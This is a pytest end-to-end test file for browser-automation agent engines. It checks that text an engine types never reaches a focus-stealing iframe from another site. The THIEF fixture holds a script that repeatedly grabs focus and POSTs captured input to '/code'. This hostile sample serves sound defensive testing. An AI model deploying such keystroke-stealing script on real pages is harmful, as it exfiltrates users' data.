"""What an engine types goes to the document it was sent to, or nowhere: judged by a stranger who takes the focus."""

from __future__ import annotations

from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import suppress
from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from playwright.async_api import Page

from ghosthands.browser_host import page as pages
from ghosthands.browser_host.engines import node
from ghosthands.browser_host.engines.engine import Candidate, Engine, EngineMove, EngineTrouble
from ghosthands.browser_host.engines.magnitude import MagnitudeEngine
from ghosthands.browser_host.engines.stagehand import StagehandEngine
from ghosthands.browser_host.engines.stagehand_cua import StagehandCuaEngine
from ghosthands.domain.asked_models import Purpose
from ghosthands.models import Account, ModelEndpoint, ModelGateway
from ghosthands.practice.model_server import AnswerRule, ModelServer

if TYPE_CHECKING:
    from conftest import Running, Site

pytestmark = [pytest.mark.e2e, pytest.mark.heavy]

CITY = "Springfield"
PLACED = "position:absolute; left:20px; width:300px; height:30px; top:"
#: a frame of another site under our own fields, which takes the focus when it is told to
APPLICATION = f"""<!doctype html><html lang="en"><title>Apply</title><body style="margin:0">
<label>E-mail <input id="email" style="{PLACED}40px"></label>
<label for="city">City</label><input id="city" style="{PLACED}90px">
<iframe src="CROSS/thief" style="{PLACED}240px; height:60px; border:0"></iframe>
<div id="note" contenteditable aria-label="Note" style="{PLACED}140px">before</div>"""
THIEF = """<!doctype html><title>Chat</title><input id="trap" aria-label="Chat"><input id="date" type="date"><script>
const hear = () => fetch("/code", { method: "POST", body: trap.value + date.value, keepalive: true });
trap.oninput = date.oninput = () => (trap.value || date.value) && hear();
setInterval(() => window.steals && trap.focus(), 1);
</script>"""
PAGES = {"/": APPLICATION, "/thief": THIEF}
AT = (100, 105)
FILL = Candidate("xpath=/html[1]/body[1]/input[1]", "fill", ("%city%",))
TYPE = Candidate("xpath=/html[1]/body[1]/input[1]", "type", ("%city%",))

DONE: dict[str, Any] = {"action": "done", "x": None, "y": None, "text": None, "confidence": None}
SEEN = [
    AnswerRule(answer={**DONE, "action": "click", "x": AT[0], "y": AT[1]}, image=True, times=1),
    AnswerRule(answer={**DONE, "action": "fill", "text": "%city%"}, image=True, times=1),
    AnswerRule(answer=DONE, image=True),
]
ACTIONS = [
    {"variant": "mouse:click", "x": AT[0], "y": AT[1]},
    {"variant": "keyboard:type", "content": "%city%"},
    {"variant": "task:done", "evidence": "it is covered"},
]
PLANNED = [AnswerRule(answer={"reasoning": "as told", "actions": ACTIONS}, image=True)]
MISSING = pytest.mark.skipif(node.missing() is not None, reason=f"magnitude not available: {node.missing()}")
ENGINES = [
    pytest.param(StagehandEngine, FILL, id="stagehand:dom, fill"),
    pytest.param(StagehandEngine, TYPE, id="stagehand:dom, type"),
    pytest.param(StagehandCuaEngine, None, id="stagehand:cua"),
    pytest.param(MagnitudeEngine, None, id="magnitude", marks=MISSING),
    pytest.param(MagnitudeEngine, FILL, id="magnitude, fill", marks=MISSING),
]
Attach = Callable[[type[Engine]], Awaitable[Engine]]


@pytest.fixture
async def attach(running: Running, page: Page, gateway: ModelGateway, model: ModelServer) -> AsyncIterator[Attach]:
    model_of_page, engines = await pages.scan(page), list[Engine]()
    async with ModelEndpoint.serving() as endpoint:

        async def attached(kind: type[Engine]) -> Engine:
            account = Account(gateway, Purpose.SEE)
            engine = kind(account, endpoint) if kind is MagnitudeEngine else kind(account)  # type: ignore[call-arg]
            model.rules += PLANNED if kind is MagnitudeEngine else SEEN
            reach = pages.Reach()
            reach.bind(page, model_of_page, [field.id for field in model_of_page.fields if field.label == "City"])
            engines.append(engine)
            await engine.attach(replace(await running.address(page), reach=reach), lambda _what: None)
            return engine

        yield attached
        for engine in engines:
            await engine.kill()


MOVE = "type %city% into the field labelled City"


@pytest.mark.parametrize(("kind", "candidate"), ENGINES)
async def test_a_frame_that_takes_the_focus_hears_nothing_of_what_an_engine_types(
    kind: type[Engine], candidate: Candidate | None, page: Page, site: Site, attach: Attach
) -> None:
    engine = await attach(kind)
    thief = page.frames[1]
    await thief.evaluate("window.steals = true")
    with suppress(EngineTrouble):
        await engine.act(EngineMove(MOVE, {"city": CITY}, candidate))
    assert (await thief.evaluate("trap.value"), site.sent) == ("", [])


@pytest.mark.parametrize(("kind", "candidate"), ENGINES)
async def test_beside_a_frame_of_another_site_an_engine_types_as_before(
    kind: type[Engine], candidate: Candidate | None, page: Page, site: Site, attach: Attach
) -> None:
    engine = await attach(kind)
    await engine.act(EngineMove(MOVE, {"city": CITY}, candidate))
    assert (await page.input_value("#city"), site.sent) == (CITY, [])


@pytest.mark.parametrize("kind", [StagehandEngine, pytest.param(MagnitudeEngine, marks=MISSING)])
@pytest.mark.parametrize("box", ["trap", "date"])
async def test_a_field_of_another_site_that_an_engine_takes_for_ours_gets_nothing(
    kind: type[Engine], box: str, page: Page, site: Site, attach: Attach
) -> None:
    engine = await attach(kind)
    at = {"trap": 1, "date": 2}[box]
    theirs = Candidate(f"xpath=/html[1]/body[1]/iframe[1]/html[1]/body[1]/input[{at}]", "fill", ("%born%",))
    with suppress(EngineTrouble):
        await engine.act(EngineMove("type %born% into the field labelled City", {"born": "1990-04-01"}, theirs))
    assert (await page.frames[1].evaluate("trap.value + date.value"), site.sent) == ("", [])


async def test_an_editor_is_given_its_text_as_one_that_is_pasted(page: Page, site: Site, attach: Attach) -> None:
    await page.evaluate("() => { note.onpaste = (event) => { note.said = event.clipboardData.getData('text/plain') } }")
    engine = await attach(StagehandEngine)
    note = Candidate("xpath=/html[1]/body[1]/div[1]", "fill", ("%city%",))
    await engine.act(EngineMove("type %city% into the note", {"city": CITY}, note))
    assert await page.evaluate("[note.innerText.trim(), note.said]") == [CITY, CITY]
